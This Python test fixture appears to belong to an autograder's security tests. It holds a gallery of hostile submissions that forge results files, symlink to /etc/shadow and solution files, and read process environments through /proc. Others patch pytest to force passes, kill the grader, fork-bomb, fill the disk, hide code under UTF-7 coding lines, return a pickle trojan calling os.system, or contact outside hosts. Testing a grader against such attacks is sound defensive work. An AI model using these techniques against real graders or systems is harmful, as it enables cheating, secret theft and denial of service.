"""The hostile-submission gallery: untouched stubs plus one attack on the grading each.

Every attack is Python code appended to the stubs' ``resampling.py``. It
runs either at import or when the checks call ``to_mono`` / ``resample``
(the hostile versions installed at the end). It records what it tried; the
hostile functions raise ``RuntimeError("ATTEMPTED: ...")`` with that record,
so the grader's own output shows the attack ran. A record containing
``LEAKED`` (it read something secret) or ``TAMPERED`` (it changed something
of the grader's) means the attack worked. Honest code here is the untouched
stubs: every attack must score exactly 0.

``{port}``, ``{token}``, ``{results}`` and ``{lab}`` in an attack's code
(and in its ``entries``) are filled in by the test (a TCP listener of the
test, a name for marker files, the real results path and the graded lab's
folder: the attacker is assumed to know both).

``entries`` are things other than code put in the submission folder: a
symbolic link (``("link", target)``), a hard link to another file of the
submission (``("hardlink", name)``), a FIFO (``("fifo",)``), a copy of a
file of this checkout (``("copy", relative path)``), a C extension module
that runs such a file's text when imported (``("extension", relative
path)``, built with the machine's C compiler) or the stub of the same name
with such a file's text hidden in a comment under a ``# coding: utf-7``
line (``("utf7", relative path)``) or as ``\\xNN`` escapes under a
``# coding: unicode_escape`` line that follows a Latin-1 line
(``("escaped", relative path)``); intake must refuse them without
reading anything. ``default`` marks the few attacks of
the default (fast) test pass; the slow pass runs them all, three ways.
"""

from __future__ import annotations

from dataclasses import dataclass
from importlib.machinery import EXTENSION_SUFFIXES


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    ``code`` runs at the end of ``resampling.py`` (module level). ``expect``:
    texts of which the results must show one (proof the attack ran and was stopped).
    ``reads_no_paths``: the attack only spends resources (processes, disk, time) and
    looks for no file of the lab or the results, so where the lab lies cannot change
    what it does: the slow pass grades it through one command (``run_autograder``,
    which runs ``warblr grade run``), not through both.
    """

    name: str
    code: str
    expect: tuple = ("ATTEMPTED",)
    needs_network_namespace: bool = False
    entries: tuple = ()
    default: bool = False
    secrets: tuple = ()
    reads_no_paths: bool = False


PRELUDE = r'''

# ------------------------------------------------------------------ hostile part
import glob as _glob
import json as _json
import os as _os
import signal as _signal
import sys as _sys
import time as _time

_EVIDENCE = []
_FAKE = {"score": 134.0, "max_score": 134.0, "execution_time": 1.0, "output": "all good",
         "tests": [{"name": "everything", "score": 134.0, "max_score": 134.0, "status": "passed",
                    "output": "", "visibility": "visible"}]}


def _note(text):
    _EVIDENCE.append(str(text)[:300])


def _cmdline_paths():
    """Every absolute path in any process's command line (the grader's --grade-json, --root, --impl ...)."""
    paths = set()
    for entry in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(entry, "rb") as handle:
                args = handle.read().split(b"\0")
        except OSError:
            continue
        for arg in args:
            for part in arg.decode(errors="replace").split("="):
                if part.startswith("/"):
                    paths.add(part)
    return paths


def _roots():
    """The graded lab, every folder in it that the grader's command lines mention, and the usual suspects.

    Only the lab under test counts: other copies of the lab on the same
    machine are not this grader's to protect.
    """
    roots = {"{lab}", "/autograder", "/autograder/source", _os.getcwd()}
    for path in _cmdline_paths():
        while path.startswith("{lab}/"):
            roots.add(path)
            path = _os.path.dirname(path)
    return roots


def _result_paths():
    return {p for p in _cmdline_paths() if p.endswith(".json")} | {"/autograder/results/results.json", "{results}"}


def _write_fake(paths=None):
    """Overwrite every results file this process can see (a file of its own private /tmp does not count)."""
    for path in sorted(paths or _result_paths()):
        try:
            with open(path, "r+") as handle:
                handle.truncate()
                _json.dump(_FAKE, handle)
            _note(f"TAMPERED {path}")
        except OSError as exc:
            _note(f"could not write {path}: {exc.strerror}")


def _read(path, what):
    try:
        with open(path, "rb") as handle:
            data = handle.read(200)
        _note(f"LEAKED {what} {path}: {data[:40]!r}")
        return True
    except OSError:
        return False


def _hostile(name):
    def hostile(*args, **kwargs):
        _attack_on_call()
        raise RuntimeError("ATTEMPTED: " + ("; ".join(_EVIDENCE) or "nothing to report")[:1500])

    hostile.__name__ = name
    return hostile


def _attack_on_call():
    pass
'''

INSTALL = r'''
to_mono = _hostile("to_mono")
resample = _hostile("resample")
'''


def _attack(name, code, **kwargs):
    return Attack(name, PRELUDE + code + INSTALL, **kwargs)


#: What a refused submission's checks say.
REFUSED = ("submission refused",)

#: Sends the grader a reply of ``{size}`` bytes of ``[[],[],...]`` on the worker's own socket, then waits.
FORGED_REPLY = r'''
def _attack_on_call():
    import socket as _socket
    import stat as _stat
    import struct as _struct
    _size = {size}
    _body = b"[" + b"[]," * ((_size - 2) // 3) + b"[]]"
    for _fd in range(3, 64):
        try:
            if not _stat.S_ISSOCK(_os.fstat(_fd).st_mode):
                continue
            _sock = _socket.socket(fileno=_os.dup(_fd))
            _sock.sendall(_struct.pack("<Q", len(_body)) + _body)
            _note(f"TAMPERED sent a forged {len(_body)}-byte reply on fd {_fd}")
        except OSError:
            continue
    _time.sleep(60)  # the grader must not wait for us, nor believe us
'''

ATTACKS = [
    _attack("atexit_rewrites_results", r'''
import atexit as _atexit
_atexit.register(_write_fake)
_write_fake()
'''),
    _attack("symlinked_solutions_folder", r'''
from .sol.resampling import *  # noqa: F401,F403 -- the answers, through a link to the lab's solutions/
''', entries=(("sol", ("link", "{lab}/solutions")),), expect=REFUSED, default=True),
    _attack("links_to_checks_and_reference_data", "", expect=REFUSED, entries=(
        ("checks.py", ("link", "{lab}/exercises/test_resampling.py")),
        ("reference.npz", ("link", "{lab}/exercises/reference_data/reference.npz")),
        ("data", ("link", "{lab}/exercises/reference_data"))), secrets=("{lab}/exercises/test_resampling.py",)),
    _attack("link_to_etc_shadow", "", expect=REFUSED, entries=(("shadow.txt", ("link", "/etc/shadow")),),
            secrets=("/etc/shadow",)),
    _attack("link_to_dev_zero", "", expect=REFUSED, entries=(("weights.bin", ("link", "/dev/zero")),)),
    # The code that runs is not the code anyone reads: resampling.py shows the untouched stub, while the
    # solution's text runs from a compiled module or a package folder (which Python imports first), or from
    # a comment that Python reads as lines of code under a UTF-7 coding line.
    _attack("extension_module_shadows_the_source", "", expect=REFUSED, entries=(
        ("resampling" + EXTENSION_SUFFIXES[0], ("extension", "solutions/resampling.py")),)),
    _attack("package_folder_shadows_the_source", "", expect=REFUSED, entries=(
        ("resampling/__init__.py", ("copy", "solutions/resampling.py")),)),
    _attack("utf7_coding_line_hides_code_in_a_comment", "", expect=REFUSED, entries=(
        ("resampling.py", ("utf7", "solutions/resampling.py")),)),
    _attack("unicode_escape_coding_line_after_a_latin1_line", "", expect=REFUSED, entries=(
        ("resampling.py", ("escaped", "solutions/resampling.py")),)),
    _attack("fifo_in_the_submission", "", expect=("FIFO",), entries=(("helper.py", ("fifo",)),)),
    _attack("hard_link_in_the_submission", "", expect=("hard link",),
            entries=(("resampling_copy.py", ("hardlink", "resampling.py")),)),
    _attack("forged_100mb_reply", FORGED_REPLY.replace("{size}", str(100 << 20)), expect=("reply was refused",),
            default=True),
    _attack("forged_reply_of_many_small_lists", FORGED_REPLY.replace("{size}", str(8 << 20)),
            expect=("reply was refused",)),
    _attack("leaves_files_and_ipc_for_later", r'''
def _attack_on_call():
    import ctypes as _ctypes
    for _path in ("/tmp/ray/session_{token}/inputs", "/run/lock/warblr-gallery-{token}",
                  "/var/tmp/warblr-gallery-{token}/deep/inputs", "/dev/shm/warblr-gallery-{token}"):
        try:
            _os.makedirs(_os.path.dirname(_path), exist_ok=True)
            with open(_path, "w") as _handle:
                _handle.write("the hidden checks' inputs")
            _note(f"wrote {_path}")
        except OSError as _exc:
            _note(f"could not write {_path}: {_exc.strerror}")
    _libc = _ctypes.CDLL(None, use_errno=True)
    _key = int("{token}", 16) & 0x7FFFFFFF
    _id = _libc.shmget(_ctypes.c_int(_key), _ctypes.c_size_t(4096), _ctypes.c_int(0o1666))
    _note(f"SysV shm segment key {_key}: id {_id}")
''', default=True),
    _attack("passes_inputs_between_checks", r'''
_WROTE = set()


def _attack_on_call():
    import ctypes as _ctypes
    _places = ["/tmp/warblr-gallery-{token}-inputs", "/var/tmp/warblr-gallery-{token}-inputs",
               "/dev/shm/warblr-gallery-{token}-inputs", "/run/lock/warblr-gallery-{token}-inputs",
               _os.path.expanduser("~/warblr-gallery-{token}-inputs"), "warblr-gallery-{token}-inputs"]
    for _path in _places:
        try:
            with open(_path) as _handle:
                if _os.path.realpath(_path) not in _WROTE:  # written by an earlier check's worker, not this one
                    _note(f"LEAKED an earlier check's inputs from {_path}: {_handle.read(60)!r}")
        except OSError:
            pass
        try:
            with open(_path, "w") as _handle:
                _handle.write("inputs of this check")
            _WROTE.add(_os.path.realpath(_path))
        except OSError:
            pass
    _libc = _ctypes.CDLL(None, use_errno=True)
    _key = (int("{token}", 16) ^ 0x5A5A5A5A) & 0x7FFFFFFF
    if "shm" not in _WROTE and _libc.shmget(_ctypes.c_int(_key), _ctypes.c_size_t(4096), _ctypes.c_int(0o666)) >= 0:
        _note("LEAKED a shared memory segment of an earlier check")
    if _libc.shmget(_ctypes.c_int(_key), _ctypes.c_size_t(4096), _ctypes.c_int(0o1666)) >= 0:
        _WROTE.add("shm")
    _note("looked for an earlier check's inputs")
'''),
    _attack("imports_the_engine_at_call", r'''
def _attack_on_call():
    import importlib as _importlib
    for _name in ("warblr.features", "warblr.resample", "warblr", "torchvggish.vggish_input", "resampy", "librosa"):
        if _name in _sys.modules:
            _note(f"LEAKED {_name} is in sys.modules")
    for _name in ("warblr.resample", "resampy"):
        try:
            _importlib.import_module(_name)
            _note(f"LEAKED imported {_name}")
        except ImportError as _exc:
            _note(f"import {_name} refused: {_exc}")
    _sys.meta_path[:] = [f for f in _sys.meta_path if "Forbidden" not in type(f).__name__]
    import importlib.util as _util
    for _path in ("{lab}/warblr/resample.py", *_glob.glob(_sys.prefix + "/lib/python3*/site-packages/resampy/core.py")):
        try:
            _spec = _util.spec_from_file_location("_stolen", _path)
            _module = _util.module_from_spec(_spec)
            _spec.loader.exec_module(_module)
            _note(f"LEAKED loaded {_path} with the blocker removed")
        except Exception as _exc:  # noqa: BLE001
            _note(f"could not load {_path}: {type(_exc).__name__}")
    try:
        import warblr.resample  # noqa: F401 -- must stay forbidden
    except ImportError as _exc:
        raise RuntimeError("ATTEMPTED: " + "; ".join(_EVIDENCE)) from _exc
''', expect=("forbids", "forbidden"), default=True),
    Attack("imports_librosa_at_module_level", PRELUDE + INSTALL + r'''
from librosa import resample as _resample  # noqa: F401
''', expect=("imports librosa",)),
    _attack("escape_sequences_in_feedback", r'''
print("\x1b[2J\x1b[H\x1b[32m134/134 ALL CHECKS PASSED\x1b[0m\r\x07")
def _attack_on_call():
    print("\x1b]0;graded: 134/134\x07\x1b[1A\x1b[2Kscore: 134 / 134")
    _note("\x1b[32mPASSED\x1b[0m\r\x1b[2K")
'''),
    Attack("rewrites_results_at_import_then_exits", PRELUDE + r'''
_write_fake()
_os._exit(0)
''', expect=("ended the worker process",)),
    _attack("forked_child_outlives_the_check", r'''
if _os.fork() == 0:
    _os.setsid()
    for _number in range(1, 32):
        try:
            _signal.signal(_number, _signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    _deadline = _time.time() + 60
    while _time.time() < _deadline:
        for _path in _result_paths():
            try:
                with open(_path, "w") as _handle:
                    _json.dump(_FAKE, _handle)
            except OSError:
                pass
        _time.sleep(0.05)
    _os._exit(0)
_note(f"forked a child that rewrites results for a minute")
'''),
    _attack("fake_results_files_everywhere", r'''
for _folder in sorted(_roots() | {_os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~")}):
    for _name in ("results.json", "results/results.json"):
        _path = _os.path.join(_folder, _name)
        try:
            _os.makedirs(_os.path.dirname(_path), exist_ok=True)
            with open(_path, "w") as _handle:
                _json.dump(_FAKE, _handle)
            _note(f"wrote {_path}")
        except OSError:
            pass
_write_fake()
'''),
    _attack("imports_solutions_package", r'''
for _root in sorted(_roots()):
    _sys.path.insert(0, _root)
_sys.path.insert(0, _os.getcwd())
try:
    from solutions.resampling import *  # noqa: F401,F403
    import solutions as _solutions
    _note(f"LEAKED imported solutions from {_solutions.__file__}")
except Exception as _exc:  # noqa: BLE001
    _note(f"import solutions failed: {type(_exc).__name__}")
'''),
    _attack("reads_solutions_by_path", r'''
for _root in sorted(_roots()):
    for _path in _glob.glob(f"{_root}/solutions/*.py") + _glob.glob(f"{_root}/*/solutions/*.py"):
        _read(_path, "solution")
    _read(f"{_root}/solutions/resampling.py", "solution")
_note("searched for solutions/")
'''),
    _attack("reads_solutions_via_proc", r'''
for _pid in sorted(_glob.glob("/proc/[0-9]*")):
    for _root in ["/proc/self/root" + r for r in sorted(_roots())] + [f"{_pid}/cwd", f"{_pid}/root{lab}"]:
        _read(f"{_root}/solutions/resampling.py", "solution via /proc")
    for _fd in _glob.glob(f"{_pid}/fd/*"):
        try:
            _target = _os.readlink(_fd)
        except OSError:
            continue
        if _target.startswith("/") and ("solutions" in _target or "test_" in _target or _target.endswith(".npz")):
            _read(_fd, f"open file of {_pid} ({_target})")
    _read(f"{_pid}/environ", "environment")
_note("walked /proc")
'''),
    _attack("reads_reference_data_and_hidden_checks", r'''
for _root in sorted(_roots()):
    for _pattern in ("exercises/reference_data/*", "*/exercises/reference_data/*", "exercises/test_*.py",
                     "*/exercises/test_*.py", "tests/grading/*.py"):
        for _path in _glob.glob(f"{_root}/{_pattern}"):
            _read(_path, "secret")
    _read(f"{_root}/exercises/test_embedding.py", "checks")
    _read(f"{_root}/lab/exercises/reference_data/reference.npz", "reference data")
_note("searched for reference data and checks")
'''),
    _attack("patches_pytest_and_the_grading_plugin", r'''
try:
    import _pytest.reports as _reports
    _reports.TestReport.outcome = "passed"
    _reports.TestReport.passed = property(lambda self: True)
    _reports.TestReport.failed = property(lambda self: False)
    import warblr.grading.report as _report
    _report.Record.score = property(lambda self: self.points)
    import warblr.grading.plugin as _plugin
    _plugin.not_attempted = lambda *args: None
    _note(f"patched pytest and the grading plugin in process {_os.getpid()}")
except Exception as _exc:  # noqa: BLE001
    _note(f"patching failed: {_exc!r}")
''', expect=("ATTEMPTED", "forbids")),
    _attack("walks_gc_for_grader_objects", r'''
import gc as _gc
for _object in _gc.get_objects():
    _kind = type(_object)
    if _kind.__name__ in ("Reference", "Grader", "Record") or str(getattr(_kind, "__module__", "")).startswith(
            ("exercises", "solutions")):
        _note(f"LEAKED found {_kind.__module__}.{_kind.__name__}")
        break
for _name in list(_sys.modules):
    if _name.startswith(("exercises", "solutions", "warblr_reference")):
        _note(f"LEAKED module {_name}")
_note(f"walked {len(_gc.get_objects())} objects")
'''),
    _attack("kills_and_signals_the_grader", r'''
for _entry in _glob.glob("/proc/[0-9]*"):
    _pid = int(_entry.rsplit("/", 1)[1])
    if _pid == _os.getpid():
        continue
    try:
        with open(f"{_entry}/cmdline", "rb") as _handle:
            _command = _handle.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        continue
    if "pytest" in _command or "warblr" in _command:
        for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
            try:
                _os.kill(_pid, _sig)
                _note(f"TAMPERED sent {_sig.name} to {_pid} ({_command[:60]})")
            except OSError as _exc:
                _note(f"could not signal {_pid}: {_exc.strerror}")
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
    _note(f"TAMPERED killed the parent {_os.getppid()}")
except OSError as _exc:
    _note(f"could not kill the parent: {_exc.strerror}")
'''),
    _attack("fork_bomb", expect=("ATTEMPTED", "time limit"), reads_no_paths=True, code=r'''
def _attack_on_call():
    _children = 0
    while _children < 2000:
        try:
            _pid = _os.fork()
        except OSError as _exc:
            _note(f"fork stopped after {_children} children: {_exc.strerror}")
            break
        if _pid == 0:
            _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
            while True:
                _time.sleep(1)
        _children += 1
'''),
    _attack("fills_the_disk", expect=("ATTEMPTED", "time limit"), reads_no_paths=True, code=r'''
def _attack_on_call():
    _signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)
    _block = b"x" * (16 << 20)
    _written = 0
    for _folder in (_os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):
        for _index in range(100):
            if _written >= 1 << 30:  # stop at 1 GiB: a test must not fill a shared machine's disk
                break
            _path = f"{_folder}/warblr-gallery-{token}-{_index}"
            try:
                with open(_path, "wb") as _handle:
                    for _ in range(64):
                        _handle.write(_block)
                        _written += len(_block)
            except OSError as _exc:
                _note(f"{_path}: {_exc.strerror}")
                break
    _note(f"wrote {_written >> 20} MiB")
'''),
    Attack("sleeps_past_the_limit_ignoring_signals", PRELUDE + r'''
def _attack_on_call():
    for _number in range(1, 65):
        try:
            _signal.signal(_number, _signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        _time.sleep(1000)
''' + INSTALL, expect=("time limit",), reads_no_paths=True),
    Attack("returns_lying_objects", PRELUDE + INSTALL + r'''
import numpy as _np


class _Liar(_np.ndarray):
    def __eq__(self, other):
        return True

    def __array_function__(self, func, types, args, kwargs):
        return True


class _Trojan:
    def __reduce__(self):
        return (_os.system, (f"touch /tmp/warblr-gallery-{token}-pwned",))


def to_mono(waveform):
    values = _np.asarray(waveform)
    return (values.mean(axis=-1) if values.ndim > 1 else values).view(_Liar)


def resample(waveform, orig_sr, target_sr):
    return _Trojan()
''', expect=("not plain data",)),
    _attack("opens_network_connections", r'''
import socket as _socket
for _address in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 53)):
    try:
        _connection = _socket.create_connection(_address, timeout=1.0)
        _connection.sendall(b"hello from the worker")
        _note(f"LEAKED connected to {_address}")
    except OSError as _exc:
        _note(f"no connection to {_address}: {_exc}")
''', needs_network_namespace=True),
]
